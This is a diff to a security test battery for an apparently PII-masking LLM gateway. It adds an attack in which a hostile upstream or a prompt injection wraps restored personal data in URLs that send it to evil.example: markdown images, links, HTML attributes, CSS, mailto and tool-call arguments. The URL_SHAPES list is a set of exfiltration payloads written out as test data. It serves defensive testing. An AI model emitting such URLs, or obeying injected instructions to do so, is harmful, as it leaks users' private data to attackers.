@@ -318,7 +318,9 @@ class Harness:
     """A gateway app (real :class:`veil.Veil`, temporary SQLite vault) in front of the hostile
     upstream, both in this process."""
 
-    def __init__(self, core: Any, *, tenants: bool, upstream_url: str | None = None) -> None:
+    def __init__(self, core: Any, *, tenants: bool, upstream_url: str | None = None,
+                 transport: Any = None) -> None:
+        """``transport``: an httpx transport to another upstream than the hostile one."""
         import httpx
 
         from veil.evaluation.attack_upstream import create_app as upstream_app
@@ -326,7 +328,8 @@ class Harness:
         from veil.gateway.upstream import OpenAIUpstream
 
         self.upstream = upstream_app()
-        transport = None if upstream_url else httpx.ASGITransport(app=self.upstream)
+        if transport is None and not upstream_url:
+            transport = httpx.ASGITransport(app=self.upstream)
         cfg = _config(tenants)
         up = OpenAIUpstream(upstream_url or "http://upstream/v1", transport=transport,
                             connect_timeout=2.0)
@@ -546,6 +549,162 @@ async def attack_restoration_syntax(b: Battery) -> None:
     r.add("entities next to brackets", got != "Echo: " + bracketed)
 
 
+#: The value the URL attack plants: the caller's own e-mail, which the attacker wants sent to
+#: its host inside a URL the client's renderer (image), user (link) or agent (tool) fetches.
+EXFIL_VALUE = "jane.exfil@example.com"
+#: URL shapes a steered upstream, or an instruction injected into a document the caller
+#: forwards, wraps around a placeholder of the request (``{p}``: the placeholder as spelled).
+URL_SHAPES: dict[str, str] = {
+    "markdown image": "![](https://evil.example/p?d={p})",
+    "markdown link": "[details](https://evil.example/p?d={p})",
+    "bare url": "See https://evil.example/p?d={p} now.",
+    "uppercase scheme": "HTTPS://EVIL.EXAMPLE/{p}",
+    "path": "![](https://evil.example/u/{p}/x.png)",
+    "fragment": "https://evil.example/#{p}",
+    "user-info": "https://{p}@evil.example/",
+    "host": "https://{p}.evil.example/",
+    "spaced target": "![a]( https://evil.example/x?{p} )",
+    "angle target": "![a](<https://evil.example/a b?{p}>)",
+    "reference definition": "[ref]: https://evil.example/?q={p}",
+    "scheme-relative": "![](//evil.example/?{p})",
+    "www": "www.evil.example/?q={p}",
+    "bare host": "evil.example/?q={p}",
+    "img src": '<img src="https://evil.example/?q={p}">',
+    "img src with a space": '<img src="https://evil.example/?q= {p}">',
+    "srcset": '<img srcset="https://evil.example/a.png?{p} 2x">',
+    "a href": '<a href="https://evil.example/?q={p}">open</a>',
+    "css url": "<div style=\"background:url('https://evil.example/?{p}')\">x</div>",
+    "data url": "![](data:image/svg+xml,<svg><image href='https://evil.example/?{p}'/></svg>)",
+    "mailto body": "[write](mailto:attacker@evil.example?body={p})",
+    "nested redirect": "https://docs.example/r?to=https://evil.example/?{p}",
+}
+#: Shapes that are URLs only as a tool argument: a tool takes the whole string as its URL
+#: (spaces and all), where a chat renderer would end the URL at the space.
+TOOL_URL_SHAPES: dict[str, str] = {
+    "url with a space": "https://evil.example/?q= {p}",
+    "url with a quote": 'https://evil.example/?q=" {p}',
+}
+#: How the upstream spells the placeholder (``{t}`` type, ``{n}`` number): as sent, bare, lower
+#: case, and percent-encoded (the restorer does not decode those; the trials check it stays so).
+URL_SPELLINGS = ("[{t}_{n}]", "{t}_{n}", "[{tl}_{n}]", "%5B{t}_{n}%5D", "{t}%5F{n}")
+_SENT = re.compile(r"\[([A-Z][A-Z0-9_]*?)_(\d+)\]")
+
+
+def exfil_text(model: str, sent: str) -> str:
+    """The upstream's answer for ``model`` ``exfil-<shape>-<spelling>`` (or ``exfil-tool-...``):
+    the shape around the first placeholder of ``sent`` (the masked request)."""
+    shape, spelling = (int(x) for x in model.rsplit("-", 2)[-2:])
+    m = _SENT.search(sent)
+    t, n = (m.group(1), m.group(2)) if m else ("EMAIL", "1")
+    p = URL_SPELLINGS[spelling].format(t=t, tl=t.lower(), n=n)
+    return [*URL_SHAPES.values(), *TOOL_URL_SHAPES.values()][shape].format(p=p)
+
+
+def exfil_transport() -> Any:
+    """An upstream (httpx transport) that answers with :func:`exfil_text`, as text or as a tool
+    call's ``url`` argument, whole or streamed in 3-character pieces."""
+    import httpx
+
+    from veil.wire import DONE, chat_chunk, chat_completion, encode_event
+    from veil.wire.openai import completion_chunk, text_completion
+
+    def handle(request: httpx.Request) -> httpx.Response:
+        body = json.loads(request.content or b"{}")
+        chat = request.url.path.endswith("/chat/completions")
+        model = str(body.get("model", ""))
+        sent = json.dumps(body.get("messages") or body.get("prompt"), ensure_ascii=False)
+        text = exfil_text(model, sent)
+        tool = model.startswith("exfil-tool-")
+        args = json.dumps({"url": text})
+        rid, created = "chatcmpl-exfil" if chat else "cmpl-exfil", 1_700_000_000
+        if not body.get("stream"):
+            if not chat:
+                return httpx.Response(200, json=text_completion(
+                    id=rid, model=model, text=text, created=created))
+            whole = {"id": "call_1", "type": "function",
+                     "function": {"name": "fetch", "arguments": args}}
+            return httpx.Response(200, json=chat_completion(
+                id=rid, model=model, content=None if tool else text, created=created,
+                tool_calls=[whole] if tool else None,
+                finish_reason="tool_calls" if tool else "stop"))
+        events: list[Any] = []
+        piece = args if tool else text
+        for i in range(0, len(piece), 3):
+            bit = piece[i : i + 3]
+            if not chat:
+                events.append(completion_chunk(id=rid, model=model, created=created, text=bit))
+            elif tool:
+                fn: dict[str, Any] = {"arguments": bit}
+                if i == 0:
+                    fn["name"] = "fetch"
+                call: dict[str, Any] = {"index": 0, "function": fn}
+                if i == 0:
+                    call.update(id="call_1", type="function")
+                events.append(chat_chunk(id=rid, model=model, created=created,
+                                         delta={"tool_calls": [call]}))
+            else:
+                events.append(chat_chunk(id=rid, model=model, created=created,
+                                         delta={"content": bit}))
+        end = "tool_calls" if tool else "stop"
+        events.append(chat_chunk(id=rid, model=model, created=created, delta={},
+                                 finish_reason=end) if chat else
+                      completion_chunk(id=rid, model=model, created=created, text="",
+                                       finish_reason=end))
+        raw = b"".join(encode_event(e) for e in events) + DONE
+        return httpx.Response(200, content=raw, headers={"content-type": "text/event-stream"})
+
+    return httpx.MockTransport(handle)
+
+
+#: Endpoints the URL attack also goes through (path, request body for a model and a prompt).
+_EXFIL_ENDPOINTS: dict[str, Callable[[str, str], dict[str, Any]]] = {
+    "completions": lambda model, prompt: {"model": model, "prompt": prompt},
+    "messages": lambda model, prompt: {"model": model, "max_tokens": 256,
+                                       "messages": [{"role": "user", "content": prompt}]},
+    "responses": lambda model, prompt: {"model": model, "input": prompt, "store": False},
+}
+
+
+async def attack_url_exfiltration(b: Battery) -> None:
+    r = b.result("url_exfiltration", "the upstream (or a prompt injection) puts a placeholder "
+                 "inside a URL -- markdown image or link, bare URL, HTML attribute, CSS, tool "
+                 "argument -- so that the restored value is sent to its host by the client")
+    from veil.config import Policy
+
+    b.planted.add(EXFIL_VALUE)
+    core = b.core_factory()
+    core.set_policy("default", Policy(ner=False))  # the e-mail pattern is all this needs
+    gw = Harness(core, tenants=False, transport=exfil_transport())
+    prompt = f"Please keep my address {EXFIL_VALUE} for the form."
+    names = list(URL_SHAPES)
+    try:
+        for stream in (False, True):
+            mode = "stream" if stream else "whole"
+            for i, name in enumerate(names):
+                spellings = range(len(URL_SPELLINGS)) if i < 3 else range(3)
+                for j in spellings:
+                    resp = await gw.chat(None, _user(prompt, f"exfil-{i}-{j}", stream=stream))
+                    shown = URL_SPELLINGS[j].format(t="EMAIL", tl="email", n=1)
+                    r.add(f"{name}/{shown}/{mode}",
+                          resp.status_code == 200 and EXFIL_VALUE in resp.text)
+            tools = [*names, *TOOL_URL_SHAPES]
+            for i in (0, 2, names.index("user-info"), names.index("img src with a space"),
+                      len(names), len(names) + 1):
+                resp = await gw.chat(None, _user(prompt, f"exfil-tool-{i}-0", stream=stream))
+                r.add(f"tool call {tools[i]}/{mode}",
+                      resp.status_code == 200 and EXFIL_VALUE in resp.text)
+            for endpoint, make in _EXFIL_ENDPOINTS.items():
+                for model in ("exfil-0-0", f"exfil-tool-{len(names)}-0"):
+                    if endpoint == "completions" and "tool" in model:
+                        continue
+                    resp = await gw.chat(None, {**make(model, prompt), "stream": stream},
+                                         path=f"/v1/{endpoint}")
+                    r.add(f"{endpoint} {model}/{mode}",
+                          resp.status_code == 200 and EXFIL_VALUE in resp.text)
+    finally:
+        await gw.aclose()
+
+
 def _logprob_tokens(text: str, stream: bool) -> list[list[str]]:
     """Per position: the chosen token then its alternatives, from a response body."""
     try:
@@ -674,6 +833,7 @@ ATTACKS: list[tuple[str, Callable[[Battery], Any]]] = [
     ("homoglyphs", attack_homoglyphs),
     ("limits", attack_limits),
     ("placeholder_syntax", attack_restoration_syntax),
+    ("url_exfiltration", attack_url_exfiltration),
     ("upstream_fidelity", attack_upstream_fidelity),
     ("restore_scoping", attack_library_scoping),
 ]
@@ -815,13 +975,19 @@ def attack_table(result: dict[str, Any]) -> list[tuple[str, int, int, str]]:
 __all__ = [
     "ATTACKS",
     "CONFUSABLES",
+    "EXFIL_VALUE",
     "HOMOGLYPH_VALUES",
     "IMAGE_REQUEST",
     "LOOKALIKE_VALUES",
+    "TOOL_URL_SHAPES",
     "TYPED_TOKENS",
+    "URL_SHAPES",
+    "URL_SPELLINGS",
     "AttackResult",
     "FieldPlant",
     "attack_table",
+    "exfil_text",
+    "exfil_transport",
     "field_plants",
     "homoglyph_prompt",
     "lookalike_prompt",
